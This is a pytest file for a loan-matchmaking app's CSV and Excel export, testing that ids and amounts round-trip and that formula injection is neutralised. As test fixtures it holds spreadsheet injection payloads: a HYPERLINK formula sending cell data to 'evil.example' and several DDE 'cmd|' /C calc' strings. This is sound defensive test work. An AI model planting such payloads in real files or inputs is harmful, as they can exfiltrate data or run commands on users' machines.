"""`export` round-trips: every exported id and amount matches the database."""

import csv
import os
import subprocess
import sys
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlmodel import Session, select

from models import Deal, FinancingDemand, LoanProduct
from models.db import make_engine
from models.errors import DomainError
from models.migrate import upgrade_to_head
from services.exports.service import EXPORTABLE, export_table
from tests import factories

BIN = Path(sys.executable).parent / "matchmaker"


def _seed(session: Session) -> None:
    bank = factories.institution(session, kind="bank", name="鹏城科创银行南山支行")
    factories.loan_product(session, bank, min_amount_wan=50.5, max_amount_wan=800.25)
    for i in range(7):
        ent = factories.enterprise(session)
        dem = factories.demand(session, ent, amount_min_wan=100 + i, amount_max_wan=222.2222 + i)
        m = factories.match(session, dem, bank)
        factories.deal(session, ent, bank, amount_wan=123.4567 * (i + 1), match_id=m.id)


def _read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.DictReader(fh))


def _read_xlsx(path: Path) -> list[dict[str, object]]:
    workbook = load_workbook(path, read_only=True)
    rows = list(workbook.active.iter_rows(values_only=True))
    workbook.close()
    return [dict(zip(rows[0], r, strict=True)) for r in rows[1:]]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_deals_and_demands_round_trip(session: Session, tmp_path: Path, fmt: str) -> None:
    _seed(session)
    for kind, model, field in [
        ("deals", Deal, "amount_wan"),
        ("demands", FinancingDemand, "amount_max_wan"),
        ("products", LoanProduct, "min_amount_wan"),
    ]:
        out = tmp_path / f"{kind}.{fmt}"
        count = export_table(session, kind, out, fmt)
        rows = _read_csv(out) if fmt == "csv" else _read_xlsx(out)
        in_db = {o.id: getattr(o, field) for o in session.exec(select(model))}
        assert count == len(rows) == len(in_db) > 0
        exported = {int(r["id"]): float(r[field]) for r in rows}  # type: ignore[arg-type]
        assert exported == in_db


def test_every_main_table_exports_ids_and_model_fields(session: Session, tmp_path: Path) -> None:
    _seed(session)
    for kind, model in EXPORTABLE.items():
        out = tmp_path / f"{kind}.csv"
        export_table(session, kind, out, "csv")
        with out.open(encoding="utf-8-sig") as fh:
            header = next(csv.reader(fh))
        assert header[0] == "id" and set(header) <= set(model.model_fields)


def test_unknown_kind_and_format_are_refused_in_chinese(session: Session, tmp_path: Path) -> None:
    with pytest.raises(DomainError, match="未知的导出类型"):
        export_table(session, "passwords", tmp_path / "x.csv")
    with pytest.raises(DomainError, match="不支持的格式"):
        export_table(session, "deals", tmp_path / "x.pdf", "pdf")


# --- issue #21, findings 8 and 18: formula injection and characters Excel refuses -------------

HOSTILE = {
    "short_name": '=HYPERLINK("http://evil.example/?d="&A1,"点击")',
    "normalized_name": "+cmd|' /C calc'!A0",
    "business_scope": "-2+3+cmd|' /C calc'!A0",
    "legal_name": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def _hostile(session: Session) -> int:
    ent = factories.enterprise(session, **HOSTILE, net_profit_wan=-120.5)
    plain = factories.enterprise(session, short_name="\t制表符开头", normalized_name="\r回车开头",
                                 business_scope="芯片\x0b设计\uffff（从 Word 粘贴的垂直制表符）",
                                 net_profit_wan=-3.0)  # fmt: skip
    session.flush()
    assert ent.id is not None and plain.id is not None
    return ent.id


def test_csv_export_quotes_formula_text_and_keeps_numbers(session: Session, tmp_path: Path) -> None:
    hostile = _hostile(session)
    out = tmp_path / "enterprises.csv"
    export_table(session, "enterprises", out, "csv")
    rows = {int(r["id"]): r for r in _read_csv(out)}
    for field, text in HOSTILE.items():
        assert rows[hostile][field] == "'" + text
    assert rows[hostile]["net_profit_wan"] == "-120.5"  # a number, as Excel reads it
    other = next(r for i, r in rows.items() if i != hostile and r["short_name"])
    assert other["short_name"] == "'\t制表符开头" and other["normalized_name"] == "'\r回车开头"
    starts = [v[:1] for r in rows.values() for k, v in r.items() if k != "net_profit_wan"]
    assert not {"=", "+", "-", "@", "\t", "\r"} & set(starts)


def test_xlsx_export_writes_text_cells_never_formulas(session: Session, tmp_path: Path) -> None:
    hostile = _hostile(session)
    out = tmp_path / "enterprises.xlsx"
    export_table(session, "enterprises", out, "xlsx")  # the \x0b raised IllegalCharacterError
    sheet = load_workbook(out).active
    assert sheet is not None
    header = [c.value for c in sheet[1]]
    rows = {row[0].value: dict(zip(header, row, strict=True)) for row in sheet.iter_rows(min_row=2)}
    cells = rows[hostile]
    for field, text in HOSTILE.items():
        assert (cells[field].value, cells[field].data_type) == (text, "s")
    assert (cells["net_profit_wan"].value, cells["net_profit_wan"].data_type) == (-120.5, "n")
    other = next(r for i, r in rows.items() if i != hostile)
    assert other["business_scope"].value == "芯片设计（从 Word 粘贴的垂直制表符）"
    kinds = {c.data_type for r in rows.values() for c in r.values()}
    assert "f" not in kinds and "e" not in kinds


def test_the_export_command_writes_inert_cells(tmp_path: Path) -> None:
    """`matchmaker export` end to end, in a subprocess against its own SQLite file."""
    db = tmp_path / "center.sqlite"
    engine = make_engine(f"sqlite:///{db}")
    upgrade_to_head(engine)
    with Session(engine) as session:
        hostile = _hostile(session)
        session.commit()
    engine.dispose()
    env = os.environ | {"DATABASE_URL": f"sqlite:///{db}"}
    for fmt in ("csv", "xlsx"):
        out = tmp_path / f"enterprises.{fmt}"
        result = subprocess.run([str(BIN), "export", "enterprises", "--format", fmt, "--out", str(out)],
                                env=env, capture_output=True, text=True, timeout=120, check=False)  # fmt: skip
        assert result.returncode == 0, result.stderr
    csv_rows = {int(r["id"]): r for r in _read_csv(tmp_path / "enterprises.csv")}
    assert csv_rows[hostile]["short_name"] == "'" + HOSTILE["short_name"]
    sheet = load_workbook(tmp_path / "enterprises.xlsx").active
    assert sheet is not None
    assert {c.data_type for row in sheet.iter_rows() for c in row} <= {"s", "n"}
